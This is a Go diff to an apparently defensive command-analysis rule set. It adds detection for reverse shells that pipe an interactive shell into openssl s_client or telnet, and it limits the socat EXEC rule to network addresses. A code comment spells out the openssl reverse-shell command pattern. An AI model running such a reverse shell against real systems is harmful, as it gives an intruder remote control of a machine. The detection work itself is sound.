@@ -624,7 +624,22 @@ func netRules() []*Rule {
 							}
 						}
 					}
+				case "openssl", "telnet":
+					// sh -i <FIFO | openssl s_client -connect HOST:PORT >FIFO (GTFOBins openssl
+					// reverse-shell): an interactive shell piped into a network client.
+					if s.PipeIn != nil && (s.Name() == "telnet" || s.sub(0) == "s_client") {
+						for _, p := range pipeSources(s) {
+							if shells.get()[p.Name()] {
+								return "Pipes an interactive shell to a network connection with " + s.Name(), true
+							}
+						}
+					}
 				case "socat":
+					// A program is attached to a connection only when the other address is a
+					// network one: socat - EXEC:sh or EXEC:… OPEN:file stays on this machine.
+					if !socatNetAddr(s.Args[1:]) {
+						break
+					}
 					for _, a := range s.Args[1:] {
 						l := strings.ToLower(a)
 						if strings.HasPrefix(l, "exec:") || strings.HasPrefix(l, "system:") {
